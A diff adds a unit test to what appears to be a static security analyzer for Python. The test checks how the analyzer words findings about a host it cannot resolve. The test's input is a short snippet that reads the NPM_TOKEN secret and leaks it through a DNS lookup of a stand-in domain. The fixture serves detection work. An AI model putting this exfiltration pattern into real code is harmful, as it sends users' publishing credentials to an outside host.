@@ -308,3 +308,10 @@ def test_every_rule_says_why_and_how_to_fix() -> None:
     for rule in PythonAnalyzer.rules.values():
         assert rule.why and rule.fix and rule.references
         assert rule.id.startswith("python-")
+
+
+def test_a_host_that_is_not_known_is_said_in_words() -> None:
+    text = "import os, subprocess\nkey = os.environ['NPM_TOKEN']\nsubprocess.run(['dig', f'{key}.example.net'])\n"
+    said = [match.message for match in inspect(view_of(text)).matches if "NPM_TOKEN" in match.message]
+    assert said
+    assert all("a host that is not written out" in message and "*" not in message for message in said)
